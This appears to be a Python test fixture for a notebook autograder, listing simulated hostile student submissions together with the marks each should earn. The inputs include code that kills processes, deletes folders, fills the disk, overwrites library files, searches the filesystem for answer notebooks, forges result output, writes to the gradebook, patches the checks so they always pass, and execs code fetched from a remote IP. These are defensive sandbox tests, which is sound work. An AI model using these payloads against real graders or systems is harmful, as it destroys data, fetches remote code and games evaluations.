"""What students hand in that is not simply right or wrong, by accident or not, with its due.

Every case is a class member of its own in ``tests/classroom/test_hostile.py``. Most hold right
answers to all exercises but the last one, where the attack is; so an attack that works is seen in
the mark of the last, and one that harms the student's own honest work in the other marks.

An attack is on exercises that do without torch, unless it is on torch itself or on what is kept
from students of a lesson: to import torch takes longer than most attacks.
"""

import textwrap
from collections.abc import Callable, Mapping
from dataclasses import dataclass

import nbformat
from nbformat import NotebookNode

from tests.helpers import own_exercises
from tests.helpers.student_notebooks import LESSON as OF_TORCH
from tests.helpers.student_notebooks import answered, cell_of, solutions_of

PLAIN = own_exercises.LESSON
SOLUTIONS = {PLAIN: own_exercises.SOLUTIONS, OF_TORCH: solutions_of()}
LAST = {PLAIN: "total", OF_TORCH: "descend"}  # the exercise with the attack, by lesson
TOTAL = own_exercises.SOLUTIONS["total"]
# What is due: all points, none, or those of honest work only, not of the attack.
ALL, NONE, REST = "all", "none", "rest"
WRONG = own_exercises.SOLUTIONS | {"total": "def total(x):\n    return None\n"}


@dataclass(frozen=True)
class Case:
    """One student: what is handed in, what is due, and a word of the line on what happened."""

    name: str
    make: Callable[[NotebookNode, Mapping[str, str]], NotebookNode | bytes]
    due: str
    line: str = ""
    file: str | None = None  # as the lesson is called, if None
    needs_bubblewrap: bool = False
    lesson: str = PLAIN

    def earns(self, exercise: str) -> bool:
        """Whether the points of an exercise are due."""
        return self.due == ALL or (self.due == REST and exercise != LAST[self.lesson])


def answers(
    name: str,
    code: str,
    due: str,
    line: str = "",
    *,
    lesson: str = PLAIN,
    needs_bubblewrap: bool = False,
) -> Case:
    """All solved but the last, where ``code`` stands; ``<paths>`` in it are a teacher's."""

    def make(original: NotebookNode, paths: Mapping[str, str]) -> NotebookNode:
        text = textwrap.dedent(code)
        for key, path in paths.items():
            text = text.replace(f"<{key}>", path)
        return answered(original, SOLUTIONS[lesson] | {LAST[lesson]: text})

    return Case(name, make, due, line, needs_bubblewrap=needs_bubblewrap, lesson=lesson)


def edited(
    name: str,
    edit: Callable[[NotebookNode], None],
    due: str = ALL,
    line: str = "",
    given: Mapping[str, str] = SOLUTIONS[PLAIN],
) -> Case:
    """Answers ``given``, then the notebook is edited."""
    return Case(name, lambda original, _: answered(original, given, edit), due, line)


def tests_say_yes(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if "require_right" in cell.source and "import" not in cell.source:
            cell.source = "assert True"


def tests_are_gone(notebook: NotebookNode) -> None:
    notebook.cells = [c for c in notebook.cells if not c.source.startswith("require_right(")]


def metadata_is_gone(notebook: NotebookNode) -> None:
    for number, cell in enumerate(notebook.cells):
        cell.metadata, cell.id = nbformat.from_dict({}), f"cell-{number}"


def test_is_renamed(notebook: NotebookNode) -> None:
    cell_of(notebook, "test_total").metadata.nbgrader.grade_id = "test_something"


def answer_is_renamed(notebook: NotebookNode) -> None:
    cell_of(notebook, "total").metadata.nbgrader.grade_id = "my_answer"


def test_is_doubled(notebook: NotebookNode) -> None:
    copy = nbformat.from_dict(cell_of(notebook, "test_total"))
    notebook.cells.append(nbformat.from_dict(copy | {"id": "copy"}))


def answer_is_doubled(notebook: NotebookNode) -> None:
    place = notebook.cells.index(cell_of(notebook, "total"))
    first = nbformat.from_dict(notebook.cells[place] | {"id": "first-try", "source": "1 / 0"})
    notebook.cells.insert(place, first)


def points_are_raised(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if "points" in cell.metadata.get("nbgrader", {}):
            cell.metadata.nbgrader.points = 300
            cell.metadata.nbgrader.locked = False


def points_are_no_number(notebook: NotebookNode) -> None:
    cell_of(notebook, "test_total").metadata.nbgrader = "all the points"


def cells_are_in_reverse(notebook: NotebookNode) -> None:
    notebook.cells = notebook.cells[::-1]


def own_helper_is_used(notebook: NotebookNode) -> None:
    place = notebook.cells.index(cell_of(notebook, "total"))
    helper = nbformat.v4.new_code_cell("def added(x):\n    return math.fsum(x)")
    notebook.cells.insert(place, helper)
    answer = notebook.cells[place + 1]
    answer.source = answer.source.replace("math.fsum(x)", "added(x)")


SEARCH = """
    import json, os, sys
    found = [path for path in (
        "<source>", "<teacher>", "<gradebook>", "<other>", "<answers>", "<results>"
    ) if os.path.exists(path)]
    dull = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", sys.prefix, sys.base_prefix)
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in dull]
        for name in files:
            if name.endswith((".ipynb", ".db")) or folder.endswith("answers"):
                found.append(os.path.join(folder, name))
    print("FOUND", found)
    def descend(*given):
        return None
    for path in found:
        if path.endswith(".ipynb"):
            for cell in json.load(open(path))["cells"]:
                text = "".join(cell["source"])
                if "def descend" in text:
                    exec(text)
"""
REWRITES = """
    import os, course_utils
    for folder, _, files in os.walk(os.path.dirname(course_utils.__file__)):
        for file in files:
            try:
                open(os.path.join(folder, file), "w").write("raise SystemExit")
            except OSError:
                pass
"""
PATCHES = """
    import sys, torch
    import torch.nn.functional as F
    import course_utils.exercises.checking as checking
    import course_utils.exercises.feedback as feedback
    import course_utils.lessons.pretraining_loss.exercises as module
    yes = feedback.right("It is.")
    checking.judge = module.judge = lambda *a, **k: yes
    module.check_descend.observe = lambda *a, **k: yes
    module.check_descend = check_descend = lambda *a, **k: yes
    module.observe_descend = lambda *a, **k: yes
    feedback.wrong = feedback.unanswered = lambda *a, **k: yes
    require_right = lambda feedback: feedback
    torch.allclose = torch.equal = lambda *a, **k: True
    torch.isclose = lambda a, b, **k: torch.tensor(True)
    torch.Tensor.__eq__ = lambda *a: True
    F.cross_entropy = lambda *a, **k: torch.tensor(0.0, requires_grad=True)
    def descend(*given):
        return torch.zeros(3, 2), torch.zeros(2)
"""
FORGED = """
    import json, os
    lines = ""
    for seed in range(2):
        found = {"status": "right", "message": "Yes.", "name": None}
        lines += json.dumps({"observed": "total", "seed": seed, "found": found}) + "\\n"
    lines += json.dumps({"done": True}) + "\\n"
    def total(*given):
        return None
    for number in range(3, 20):
        try:
            os.write(number, lines.encode())
        except OSError:
            pass
"""
CHANNEL = """
    import gc, io, json, time
    channel = next(o for o in gc.get_objects() if isinstance(o, io.TextIOWrapper)
                   and not o.closed and type(o.name) is int and o.name > 2)
"""
HEARTBEAT = (
    CHANNEL
    + """
    while True:
        try:
            while True:
                channel.write('{}\\n')
                channel.flush()
                time.sleep(0.2)
        except BaseException:
            pass
"""
)
NONSENSE = (
    CHANNEL
    + """
    for text in ('{"begins": 1e9}', '{"seed": Infinity, "observed": 3}', '[1]', 'null'):
        channel.write(text + '\\n')
        channel.flush()
"""
)
TELLS_THE_SEED = """
    import gc
    job = next(o for o in gc.get_objects() if type(o) is dict and 'memory_mb' in o)
    def total(*given):
        raise ValueError(f"seeds {job['seeds']} \\ud800 \\x1b[31m <script>alert(1)</script>")
"""
LOOP = "def total(*given):\n    while True:\n        pass\n"
SWALLOWS = """
    def total(*given):
        while True:
            try:
                while True:
                    pass
            except KeyboardInterrupt:
                pass
"""
CASES = (
    Case(
        "correct",
        lambda original, _: answered(original, SOLUTIONS[OF_TORCH]),
        ALL,
        lesson=OF_TORCH,
    ),
    Case("blank", lambda original, _: original, NONE),
    answers("partly right", "def descend(*given):\n    return 3", REST, lesson=OF_TORCH),
    edited("tests edited", tests_say_yes, REST, "changed", WRONG),
    edited("tests deleted", tests_are_gone, REST, "missing", WRONG),
    edited("tests deleted, all right", tests_are_gone, ALL, "missing"),
    edited("metadata deleted", metadata_is_gone, ALL, "without its name"),
    edited("test renamed", test_is_renamed, ALL, "missing"),
    edited("answer renamed", answer_is_renamed, ALL, "without its name"),
    edited("test doubled", test_is_doubled, ALL, "more than once"),
    edited("answer doubled", answer_is_doubled, ALL, "more than once"),
    edited("points raised", points_are_raised, REST, "points", WRONG),
    edited("points no number", points_are_no_number),
    edited("cells in reverse", cells_are_in_reverse, ALL),
    edited("own helper", own_helper_is_used),
    answers("loop in a function", LOOP, REST, "took longer"),
    answers("loop at the top", f"{TOTAL}\nwhile True:\n    pass", ALL, "longer"),
    answers("loop that swallows interrupts", SWALLOWS, REST, "did not stop when interrupted"),
    answers(
        "loop at the top that swallows",
        textwrap.dedent(SWALLOWS) + "total()",
        REST,
        "did not stop when interrupted",
    ),
    answers("sys.exit in a function", "def total(*given):\n    raise SystemExit", REST, "exit"),
    answers("sys.exit at the top", "import sys\nsys.exit()", REST, "SystemExit"),
    answers(
        "os._exit in a function",
        "def total(*given):\n    os._exit(0)\nimport os",
        REST,
        "ended Python",
    ),
    answers("os._exit at the top", "import os\nos._exit(0)", REST, "ended Python"),
    answers(
        "kills its parent",
        "import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)",
        REST,
        needs_bubblewrap=True,
    ),
    answers("huge output", f"print('a' * 30_000_000)\n{TOTAL}", ALL, "too much"),
    answers(
        "huge raw output",
        f"import os\nfor n in (1, 2):\n    os.write(n, b'a' * 10**7)\n{TOTAL}",
        ALL,
    ),
    answers(
        "huge memory",
        f"held = torch.zeros(10**11)\n{SOLUTIONS[OF_TORCH]['descend']}",
        REST,
        "memory",
        lesson=OF_TORCH,
    ),
    answers(
        "memory in steps",
        "held = []\nwhile True:\n    held.append(bytes(10**8))",
        REST,
        "MemoryError",
    ),
    answers("a warning", "import warnings\nwarnings.warn('harmless')\n" + TOTAL, ALL),
    answers(
        "a warning in a function",
        TOTAL.replace("    return", "    warnings.warn('x')\n    return") + "\nimport warnings",
        ALL,
    ),
    answers(
        "fills the disk",
        """
        for number in range(1000):
            open(f"file{number}", "wb").write(b"a" * 10**7)
        """,
        REST,
        "No space left",
        needs_bubblewrap=True,
    ),
    answers(
        "starts many processes",
        "import subprocess\n"
        "held = [subprocess.Popen(['sleep', '600']) for _ in range(200)]\n" + TOTAL,
        ALL,
        needs_bubblewrap=True,
    ),
    answers(
        "deletes its folder",
        "import os, shutil\nshutil.rmtree('.', ignore_errors=True)\n" + TOTAL,
        ALL,
    ),
    answers(
        "rewrites what it imports",
        textwrap.dedent(REWRITES) + TOTAL,
        ALL,
        needs_bubblewrap=True,
    ),
    answers("looks for solutions", SEARCH, REST, lesson=OF_TORCH, needs_bubblewrap=True),
    answers(
        "imports the answers",
        """
        import course_utils.lessons.pretraining_loss.answers.descend as truth
        descend = truth.ANSWER.right
        """,
        REST,
        "No module named",
        lesson=OF_TORCH,
    ),
    answers(
        "writes to the gradebook",
        """
        import sqlite3
        book = sqlite3.connect("<gradebook>")
        book.execute("update grade set auto_score = 15")
        book.commit()
        """,
        REST,
        "unable to open",
        needs_bubblewrap=True,
    ),
    answers(
        "strips asserts",
        """
        import ast
        class NoAssert(ast.NodeTransformer):
            def visit_Assert(self, node):
                return None
            def visit_Expr(self, node):
                return None
        get_ipython().ast_transformers.append(NoAssert())
        get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
        def total(*given):
            return None
        """,
        REST,
    ),
    answers("patches checks and torch", PATCHES, REST, lesson=OF_TORCH),
    answers("forges the results", FORGED, REST),
    answers("keeps saying something", HEARTBEAT, REST, "did not stop when interrupted"),
    answers("says nonsense", NONSENSE, REST, "wrote over the results"),
    answers("tells the seed in an error", TELLS_THE_SEED, REST, "seeds"),
    edited(
        "half a character",
        lambda notebook: notebook.cells.append(nbformat.v4.new_code_cell("x = '\ud800'")),
    ),
    answers(
        "mounts a room of its own",
        "import subprocess\nsubprocess.run(['unshare', '-Urm', 'true'], check=True)\n" + TOTAL,
        REST,
        "CalledProcessError",
        needs_bubblewrap=True,
    ),
    answers(
        "writes into the room's own folders",
        "open('/dev/x', 'w').write('x')\n" + TOTAL,
        REST,
        "Read-only",
        needs_bubblewrap=True,
    ),
    answers(
        "answers equal everything",
        """
        class Yes(torch.Tensor):
            def __eq__(self, other):
                return True
            def tolist(self):
                return Yes2()
        class Yes2(list):
            def __eq__(self, other):
                return True
        def descend(*given):
            return Yes(), Yes()
        """,
        REST,
        lesson=OF_TORCH,
    ),
    answers(
        "needs the network",
        """
        import urllib.request
        exec(urllib.request.urlopen("http://192.0.2.1/total.py", timeout=2).read())
        """,
        REST,
        "URLError",
        needs_bubblewrap=True,
    ),
    answers(
        "leaves threads and processes",
        "import subprocess, threading, time\n"
        "subprocess.Popen(['sleep', '600'])\n"
        "threading.Thread(target=time.sleep, args=(600,)).start()\n" + TOTAL,
        ALL,
    ),
    Case(
        "wrong name",
        lambda original, _: answered(original, SOLUTIONS[PLAIN]),
        ALL,
        "handed in as",
        file="homework final (2).ipynb",
    ),
    Case("not a notebook", lambda *_: b"print('hello')", NONE, "not a notebook", file="answer.py"),
    Case("broken JSON", lambda *_: b'{"cells": [', NONE, "broken"),
    Case("JSON but no notebook", lambda *_: b'{"cells": 3}', NONE, "broken"),
    Case("empty file", lambda *_: b"", NONE, "empty"),
    Case("a picture", lambda *_: b"\x89PNG\r\n\x1a\n\x00", NONE, "broken"),
    Case("deep JSON", lambda *_: b"[" * 200_000, NONE, "broken"),
)
